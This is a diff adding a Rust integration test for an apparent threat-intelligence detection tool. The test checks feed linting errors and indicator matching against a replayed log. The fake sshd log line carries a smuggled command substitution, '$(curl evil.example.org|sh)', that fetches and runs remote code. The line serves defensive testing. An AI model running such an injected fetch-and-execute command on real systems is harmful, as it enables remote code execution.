@@ -166,3 +166,51 @@ fn feed_folder_reloads_without_restart() {
     assert_eq!(hit["techniques"], serde_json::json!(["T1071"]));
     assert_eq!(hit["tactics"], serde_json::json!(["TA0011"]));
 }
+
+/// Broken feed entries are reported by `warden lint` as `file:line: reason` (exit 1),
+/// while every good entry — in the same file and in others — loads and matches.
+#[test]
+fn broken_feeds_are_reported_and_the_rest_loads() {
+    use std::process::Command;
+    let tmp = tempfile::tempdir().unwrap();
+    let actors = copy_actors(tmp.path());
+    let feeds = actors.join("threat-detection/feeds");
+    std::fs::write(feeds.join("local.txt"), "# local\n198.51.100.7\nnot-an-indicator!\nevil.example.org\n").unwrap();
+    std::fs::write(feeds.join("bundle.json"), "{\"type\": \"bundle\",\n  \"objects\": [\n  {]}\n").unwrap();
+    std::fs::write(
+        actors.join("threat-detection/feeds.toml"),
+        "[[feed]]\nname = \"local\"\npath = \"feeds\"\nconfidence = 0.9\n",
+    )
+    .unwrap();
+    let out = Command::new(crate::support::BIN).args(["lint", "--actors"]).arg(&actors).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let stdout = String::from_utf8_lossy(&out.stdout).replace(&format!("{}/", feeds.display()), "");
+    let mut lines: Vec<&str> = stdout.lines().collect();
+    lines.sort();
+    assert_eq!(lines.len(), 2, "{stdout}");
+    assert!(lines[0].starts_with("bundle.json:3: not valid JSON"), "{stdout}");
+    assert_eq!(lines[1], "local.txt:3: `not-an-indicator!` is not an indicator");
+
+    // A line that mentions both good indicators (hostile text around them, too).
+    let log = tmp.path().join("auth.log");
+    std::fs::write(
+        &log,
+        "Mar  1 10:00:00 web1 sshd[1]: Connection from 198.51.100.7 port 4444 on 10.0.0.1 port 22 rdomain \"$(curl evil.example.org|sh)\"\n",
+    )
+    .unwrap();
+    let out = Command::new(crate::support::BIN)
+        .args(["replay", "--findings", "--actors"])
+        .arg(&actors)
+        .arg(&log)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
+    let mut hits: Vec<String> = findings
+        .iter()
+        .filter(|f| f["rule"] == "threat_intel_match")
+        .map(|f| f["intel"][0]["indicator"].as_str().unwrap().to_string())
+        .collect();
+    hits.sort();
+    assert_eq!(hits, ["198.51.100.7", "evil.example.org"]);
+}
